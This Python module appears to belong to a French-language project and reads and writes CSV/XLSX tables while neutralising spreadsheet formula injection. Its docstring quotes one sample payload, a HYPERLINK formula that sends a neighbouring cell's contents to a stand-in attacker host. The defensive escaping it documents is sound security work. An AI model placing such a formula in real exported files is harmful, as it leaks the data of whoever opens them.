"""Reading and writing CSV/XLSX tables as inert data, losslessly.

Why: an exported cell beginning with ``=`` becomes a live formula when a colleague opens the
file (``=HYPERLINK("http://evil.example/?x="&B2, "Cliquez")`` leaks the neighbouring cell).

- XLSX cells are always written as typed values: text is a string cell (``data_type = "s"``),
  never a formula, whatever it starts with; reading keeps text as text. A live formula found in
  an imported workbook is reported (:class:`Formula`), never evaluated nor read as empty.
- CSV text cells whose first character is one of ``= + - @ TAB CR`` are neutralised the
  OWASP way, with a leading single quote. To keep export → import lossless, a text that
  already starts with quotes followed by such a character gets one more quote, and the
  importer strips exactly one: :func:`escape_cell` and :func:`unescape_cell` are inverse.
  Numbers are written as numbers (``-297`` is data, not a formula).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, BinaryIO

from vigie_industrie import errors

DANGEROUS_FIRST = "=+-@\t\r"
_ESCAPED = re.compile(r"^'+[=+\-@\t\r]")
_NEEDS_ESCAPE = re.compile(r"^'*[=+\-@\t\r]")
XLSX_MEDIA = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXTRA = "__cellules_en_trop__"  # key of the cells beyond the header, reported by the importer


@dataclass(frozen=True)
class Formula:
    """A live formula found in an imported workbook: reported, never evaluated."""

    text: str


def escape_cell(value: str) -> str:
    """OWASP CSV-injection escaping, made reversible.

    >>> escape_cell("=1+1"), escape_cell("'=1"), escape_cell("Projet"), escape_cell("'ok")
    ("'=1+1", "''=1", 'Projet', "'ok")
    """
    return "'" + value if _NEEDS_ESCAPE.match(value) else value


def unescape_cell(value: str) -> str:
    """Inverse of :func:`escape_cell`: strip exactly the quote it added.

    >>> unescape_cell("'=1+1"), unescape_cell("''=1"), unescape_cell("'ok")
    ('=1+1', "'=1", "'ok")
    """
    return value[1:] if _ESCAPED.match(value) else value


# --- reading ---------------------------------------------------------------------------


def read_path(path: Path) -> list[dict[str, Any]]:
    """Rows of a CSV (UTF-8, comma or semicolon) or XLSX file as dicts keyed by header."""
    path = Path(path)
    if not path.exists():
        raise errors.ValidationFailed(f"Fichier {path} introuvable : vérifiez le chemin.")
    if path.suffix.lower() not in (".xlsx", ".xlsm", ".csv", ".txt"):
        raise errors.ValidationFailed(f"Format de {path} non pris en charge : utilisez un fichier .csv ou .xlsx.")
    return read_bytes(path.read_bytes(), str(path))


def read_bytes(content: bytes, name: str) -> list[dict[str, Any]]:
    if name.lower().endswith((".xlsx", ".xlsm")):
        return _read_xlsx(content, name)
    return _read_csv(content, name)


def _read_csv(content: bytes, name: str) -> list[dict[str, Any]]:
    try:
        text = content.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise errors.ValidationFailed(f"{name} n'est pas en UTF-8 (octet {exc.start}) : réenregistrez-le en CSV UTF-8.") from exc
    first = text.split("\n", 1)[0]
    dialect = ";" if first.count(";") > first.count(",") else ","
    reader = csv.DictReader(io.StringIO(text), delimiter=dialect, restkey=EXTRA)
    out = []
    for raw in reader:
        row: dict[str, Any] = {}
        for key, value in raw.items():
            if key == EXTRA:
                row[EXTRA] = [v for v in value if v.strip()]
            else:
                row[key] = unescape_cell(value) if isinstance(value, str) else value
        out.append(row)
    return out


def _read_xlsx(content: bytes, name: str) -> list[dict[str, Any]]:
    import openpyxl

    try:
        wb = openpyxl.load_workbook(io.BytesIO(content), read_only=True, data_only=False)
    except Exception as exc:
        raise errors.ValidationFailed(f"{name} n'est pas un classeur XLSX lisible ({type(exc).__name__}) : réenregistrez-le.") from exc
    try:
        rows = wb.worksheets[0].iter_rows()
        header = [str(c.value).strip() if c.value is not None else "" for c in next(rows, [])]
        out = []
        for cells in rows:
            values = [Formula(str(c.value)) if c.data_type == "f" else c.value for c in cells]
            if not any(v not in (None, "") for v in values):
                continue
            row: dict[str, Any] = dict(zip(header, values))
            extra = [v for v in values[len(header):] if v not in (None, "")]
            if extra:
                row[EXTRA] = extra
            out.append(row)
        return out
    finally:
        wb.close()


# --- writing ---------------------------------------------------------------------------


def write(stream: BinaryIO, fmt: str, header: Sequence[str], rows: Iterable[Sequence[Any]], sheet: str = "export") -> None:
    """Write ``header`` and ``rows`` as ``fmt`` (``csv`` or ``xlsx``) to a binary stream."""
    if fmt == "csv":
        text = io.TextIOWrapper(stream, encoding="utf-8", newline="", write_through=True)
        writer = csv.writer(text)
        writer.writerow(header)
        writer.writerows([escape_cell(v) if isinstance(v, str) else v for v in row] for row in rows)
        text.detach()
        return
    if fmt != "xlsx":
        raise errors.ValidationFailed(f"Format « {fmt} » non pris en charge : choisissez csv ou xlsx.")
    import openpyxl
    from openpyxl.cell import WriteOnlyCell

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet(sheet[:31])
    for line in (header, *rows):
        cells = []
        for value in line:
            cell = WriteOnlyCell(ws, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # a value, even when it starts with "="
            cells.append(cell)
        ws.append(cells)
    wb.save(stream)
